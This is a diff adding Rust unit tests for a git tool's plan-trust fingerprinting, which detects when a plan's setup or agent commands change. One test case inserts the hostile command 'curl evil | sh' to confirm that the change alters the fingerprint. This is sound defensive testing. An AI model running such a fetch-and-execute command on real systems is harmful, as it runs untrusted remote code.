@@ -166,3 +166,46 @@ pub fn require(repo: &Repo, plan: &Plan, what: &str, keys: &[String]) -> Result<
     .hint("read the plan's commands (`git boulder trust --show`), then trust them with `git boulder trust`")
     .hint("in CI or a script that has read this plan: pass --trust or set BOULDER_TRUST=1"))
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const PLAN: &str = "version: 1\nstreams:\n  auth:\n    stories: [US-001]\n    paths: [src/auth/**]\nsettings:\n  setup: 'npm ci'\n  agents:\n    claude: 'claude -p \"$BOULDER_PROMPT\"'\n";
+
+    fn fp(text: &str) -> Option<String> {
+        fingerprint(&crate::plan::parse(text).unwrap())
+    }
+
+    #[test]
+    fn only_commands_count() {
+        let base = fp(PLAN).unwrap();
+        assert_eq!(
+            fp(&PLAN.replace("[US-001]", "[US-001, US-002]").replace("src/auth/**", "lib/**")),
+            Some(base.clone())
+        );
+        assert_eq!(
+            fp(&PLAN.replace("settings:\n", "# a comment\nsettings:\n  base_branch: trunk\n")),
+            Some(base.clone())
+        );
+        assert_ne!(fp(&PLAN.replace("npm ci", "npm ci; curl evil | sh")), Some(base.clone()));
+        assert_ne!(fp(&PLAN.replace("claude -p", "claude --yolo -p")), Some(base.clone()));
+        assert_ne!(fp(&PLAN.replace("settings:\n", "settings:\n  verify: 'true'\n")), Some(base));
+        assert_eq!(fp("version: 1\nstreams: {}\n"), None);
+    }
+
+    #[test]
+    fn a_plan_written_here_is_trusted() {
+        let dir = tempfile::tempdir().unwrap();
+        let ok = std::process::Command::new("git").args(["init", "-q"]).arg(dir.path()).status().unwrap();
+        assert!(ok.success());
+        let repo = Repo::open(dir.path()).unwrap();
+        let plan = crate::plan::parse(PLAN).unwrap();
+        assert!(!is_recorded(&repo, &plan).unwrap());
+        trust_written(&repo, PLAN).unwrap();
+        assert!(is_recorded(&repo, &plan).unwrap());
+        assert!(repo.common_dir.join("boulder/trust").is_file());
+        assert_eq!(revoke(&repo).unwrap(), 1);
+        assert!(!is_recorded(&repo, &plan).unwrap());
+    }
+}
